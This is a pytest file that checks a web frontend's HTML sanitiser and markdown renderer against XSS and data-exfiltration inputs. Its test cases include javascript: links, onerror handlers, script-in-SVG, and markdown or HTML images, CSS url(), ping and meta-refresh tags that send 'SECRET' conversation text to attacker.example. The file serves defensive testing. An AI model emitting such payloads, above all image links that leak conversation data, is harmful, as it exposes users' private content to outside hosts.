"""The sanitiser and the plain-text renderer, without a browser."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from frontend.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, line_diff, render_markdown, render_plain, sanitize_html

from .conftest import attack_texts

class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("text", attack_texts(max_chars=2000))
def test_attack_markdown_renders_without_active_content(text):
    for tag, attrs in elements(render_markdown(text)):
        assert tag in ALLOWED_TAGS, tag
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, attrs)
        for url in (attrs.get("href"), attrs.get("src")):
            assert url is None or url.startswith(("https:", "http:", "mailto:", "/", "data:image/")), url
            assert url is None or "attacker.example" not in url


@pytest.mark.parametrize("text", attack_texts(max_chars=2000))
def test_attack_plain_text_has_no_markup_but_ours(text):
    assert {tag for tag, _ in elements(render_plain(text))} <= {"span", "wbr"}


@pytest.mark.parametrize("html, expected", [
    ('<a href="javascript:alert(1)">x</a>', "<a rel=\"noopener noreferrer\">x</a>"),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', "<a rel=\"noopener noreferrer\">x</a>"),
    ('<a href="data:text/html,<script>1</script>">x</a>', "<a rel=\"noopener noreferrer\">x</a>"),
    ('<a href="https://example.org/a" target="_blank">x</a>',
     '<a href="https://example.org/a" rel="noopener noreferrer">x</a>'),
    ('<a href="mailto:team@example.org">x</a>', '<a href="mailto:team@example.org" rel="noopener noreferrer">x</a>'),
    ('<img src="https://attacker.example/p.png" alt="p">', '<img alt="p">'),
    ('<img src="//attacker.example/p.png">', "<img>"),
    ('<img src="/static/frontend/favicon.svg">', '<img src="/static/frontend/favicon.svg">'),
    ('<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<img>"),
    ('<img src=x onerror="alert(1)">', "<img>"),
    ('<p style="display:none" class="x" id="y">t</p>', "<p>t</p>"),
    ("<script>alert(1)</script><style>*{}</style><iframe src=x></iframe>ok", "ok"),
    ("<svg><script>alert(1)</script></svg>t", "t"),
    ("<form action=/x><input name=a></form>", ""),
])
def test_sanitiser_keeps_only_safe_tags_and_urls(html, expected):
    assert sanitize_html(html) == expected


def test_markdown_links_get_rel_and_lose_bad_schemes():
    html = render_markdown("[ok](https://example.org) [bad](javascript:alert(1)) [v](vbscript:x) **b**")
    assert '<a href="https://example.org" rel="noopener noreferrer">ok</a>' in html
    assert 'href="javascript' not in html and 'href="vbscript' not in html and "<strong>b</strong>" in html


def test_markdown_tables_and_code_survive():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<b>x</b>\n```")
    assert "<table>" in html and "<td>1</td>" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html


def test_invisible_characters_are_made_visible():
    html = render_plain("\u202eevil.exe\u202c and zero\u200bwidth \x01")
    assert "\u202e" not in html and "\u200b" not in html and "\x01" not in html
    assert "⟨U+202E⟩" in html and "⟨U+200B⟩" in html and "⟨U+0001⟩" in html
    assert "⟨U+202E⟩" in render_markdown("a\u202eb")


def test_plain_text_is_escaped_and_template_syntax_stays_literal():
    html = render_plain('<script>x</script> "q" {{ settings.SECRET_KEY }}')
    assert html.startswith("&lt;script&gt;") and "&quot;q&quot;" in html
    assert "{{ settings.SECRET_KEY }}" in html


def test_long_words_get_break_points_without_losing_text():
    html = render_plain("x" * 200 + " <" + "y" * 100)
    assert html.count("<wbr>") == 3
    assert html.replace("<wbr>", "") == "x" * 200 + " &lt;" + "y" * 100


def test_line_diff_marks_added_and_removed_lines():
    rows = line_diff("a\nb\nc", "a\nB\nc\nd")
    assert ("del", "b") in rows and ("add", "B") in rows and ("add", "d") in rows
    assert rows[0][0] == "hunk"


@pytest.mark.parametrize("source", [
    "![loading](https://attacker.example/collect?q=SECRET_CONVERSATION_TEXT)",
    "![x][ref]\n\n[ref]: https://attacker.example/collect?q=SECRET",
    "![x](//attacker.example/collect?q=SECRET)",
    "![x](/\\attacker.example/collect?q=SECRET)",
    "![x](http://127.0.0.1:6379/collect)",
    '<img src="https://attacker.example/collect?q=SECRET">',
    '<picture><source srcset="https://attacker.example/c"><img src="/static/x.png"></picture>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
    '[![x](https://attacker.example/c)](https://example.org)',
    '<div style="background:url(https://attacker.example/c)">x</div>',
    '<a href="https://example.org" ping="https://attacker.example/c">x</a>',
    '<link rel="prefetch" href="https://attacker.example/c"><meta http-equiv="refresh" content="0;url=https://attacker.example/c">',
])
def test_the_sanitiser_alone_leaves_no_way_to_load_from_another_host(source):
    """Layer one of the exfiltration defence, on its own (the browser test covers layer two, the
    CSP, with this layer switched off): nothing that the browser would fetch by itself points
    anywhere but here or a raster data: image."""
    html = render_markdown(source)
    for tag, attrs in elements(html):
        assert tag not in {"source", "picture", "link", "meta", "style", "iframe", "object", "embed"}, tag
        assert "style" not in attrs and "ping" not in attrs and "srcset" not in attrs, (tag, attrs)
        if tag == "img" and "src" in attrs:  # markdown-it percent-encodes "\\": "/%5Chost" is a path here
            src = attrs["src"]
            same_origin_path = src.startswith("/") and not src.startswith(("//", "/\\"))
            raster_data = src.startswith(("data:image/png", "data:image/gif", "data:image/jpeg", "data:image/webp"))
            assert same_origin_path or raster_data, src
